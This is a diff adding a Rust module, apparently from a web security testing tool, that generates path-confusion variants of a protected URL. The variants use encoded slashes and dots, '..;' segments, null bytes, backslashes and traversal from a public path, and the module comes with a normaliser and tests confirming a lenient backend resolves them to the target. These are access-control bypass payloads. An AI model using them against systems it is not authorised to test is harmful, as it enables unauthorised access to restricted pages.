@@ -1,0 +1,156 @@
+//! Spellings of a target that a check and a backend may read differently.
+
+/// How many times a backend may decode.
+const DECODINGS: usize = 3;
+
+/// Targets that some backend takes for `target` and some check does not; through `public`, where there is one.
+pub fn tricks(target: &str, public: Option<&str>, scheme: &str, host: &str, canary: &str) -> Vec<String> {
+    let path = target.split(['?', '#']).next().unwrap_or_default();
+    let bare = path.trim_start_matches('/');
+    let (first, rest) = bare.split_once('/').unwrap_or((bare, ""));
+    let behind = if rest.is_empty() {
+        String::new()
+    } else {
+        format!("/{rest}")
+    };
+    let mut tricks = vec![
+        format!("/{path}"),
+        format!("/.{path}"),
+        format!("/%2f{bare}"),
+        format!("/%2e/{bare}"),
+        format!("/;{path}"),
+        format!("/x/..{path}"),
+        format!("/x/..;{path}"),
+        format!("\\{bare}"),
+        format!("/{};x{behind}", first),
+        format!("/{};/..;/{bare}", first),
+        format!("{path}/"),
+        format!("{path}/."),
+        format!("{path}%20"),
+        format!("{path}%00"),
+        format!("{path}%3fx"),
+        format!("{path}%23x"),
+        format!("{path}#x"),
+        format!("{scheme}://{host}{path}"),
+        format!("{scheme}://{canary}.example{path}"),
+    ];
+    if let Some(letter) = bare.chars().next().filter(char::is_ascii) {
+        let code = u32::from(letter);
+        tricks.push(format!("/%{code:02x}{}", bare.get(1..).unwrap_or_default()));
+        tricks.push(format!("/%25{code:02x}{}", bare.get(1..).unwrap_or_default()));
+        tricks.push(path.to_ascii_uppercase());
+    }
+    if !rest.is_empty() {
+        tricks.push(format!("/{first}%2f{rest}"));
+        tricks.push(format!("/{first}\\{rest}"));
+        tricks.push(format!("/{first}//{rest}"));
+    }
+    if let Some(public) = public {
+        let public = public.trim_end_matches('/');
+        let up = |step: &str| step.repeat(public.matches('/').count().max(1));
+        for step in [
+            "/..",
+            "/%2e%2e",
+            "/.%2e",
+            "/..;",
+            "/..;x",
+            "%2f..",
+            "%5c..",
+            "\\..",
+            "/%252e%252e",
+            "/..%00",
+        ] {
+            tricks.push(format!("{public}{}{path}", up(step)));
+        }
+        tricks.push(format!("{public}{}%2f{bare}", up("/..")));
+        tricks.push(format!("{public}?/..{path}"));
+        tricks.push(format!("{public}%3f{}{path}", up("/..")));
+        tricks.push(format!("{public}%23{}{path}", up("/..")));
+        tricks.push(format!("{path}?{public}"));
+        tricks.push(format!("{path}#{public}"));
+        tricks.push(format!("{path};{public}"));
+    }
+    tricks.retain(|trick| trick != target);
+    tricks.sort_unstable();
+    tricks.dedup();
+    tricks
+}
+
+/// Whether a backend that is lenient in every way takes one target for the other.
+pub fn may_mean(received: &str, real: &str) -> bool {
+    let real = lenient(real, DECODINGS);
+    (0..=DECODINGS).any(|times| lenient(received, times) == real)
+}
+
+fn lenient(target: &str, decodings: usize) -> String {
+    let path = match target.split_once("://") {
+        Some((_, rest)) if !target.starts_with('/') => {
+            rest.find('/').and_then(|slash| rest.get(slash..)).unwrap_or("/")
+        }
+        Some(_) | None => target,
+    };
+    let path = path.split(['?', '#']).next().unwrap_or_default();
+    let mut path = path.as_bytes().to_vec();
+    for _ in 0..decodings {
+        path = decoded(&path);
+    }
+    let path = String::from_utf8_lossy(&path).to_ascii_lowercase();
+    // Where a decoded one ends the path for the backend, it ends it here.
+    let path = path
+        .split(['?', '#', '\0'])
+        .next()
+        .unwrap_or_default()
+        .replace('\\', "/");
+    let mut segments: Vec<&str> = Vec::new();
+    for segment in path.split('/') {
+        match segment.split(';').next().unwrap_or_default().trim() {
+            "" | "." => {}
+            ".." => {
+                segments.pop();
+            }
+            other => segments.push(other),
+        }
+    }
+    segments.join("/")
+}
+
+fn decoded(bytes: &[u8]) -> Vec<u8> {
+    let digit = |byte: Option<&u8>| byte.and_then(|byte| char::from(*byte).to_digit(16));
+    let (mut out, mut at) = (Vec::with_capacity(bytes.len()), 0);
+    while let Some(byte) = bytes.get(at) {
+        let pair = digit(bytes.get(at + 1)).zip(digit(bytes.get(at + 2)));
+        match pair.filter(|_| *byte == b'%') {
+            Some((high, low)) => {
+                out.push(u8::try_from(high * 16 + low).unwrap_or(b'?'));
+                at += 3;
+            }
+            None => {
+                out.push(*byte);
+                at += 1;
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_trick_is_one() {
+        let tricks = tricks("/staff/x?a=1", Some("/open"), "https", "h", "c1");
+        let tricky = |trick: &&String| !may_mean(trick, "/staff/x");
+        let none: Vec<&String> = tricks.iter().filter(tricky).collect();
+        // The one that says it in the query is a trick on checks only.
+        assert_eq!(none, ["/open?/../staff/x"]);
+    }
+
+    #[test]
+    fn what_a_backend_takes_for_something_else_is_none() {
+        for other in ["/", "/open", "/staff", "/staff/y", "/open/staff/x", "/staff/x/y"] {
+            assert!(!may_mean(other, "/staff/x"), "{other}");
+        }
+        assert!(may_mean("/STAFF//x;a", "/staff/x"));
+    }
+}
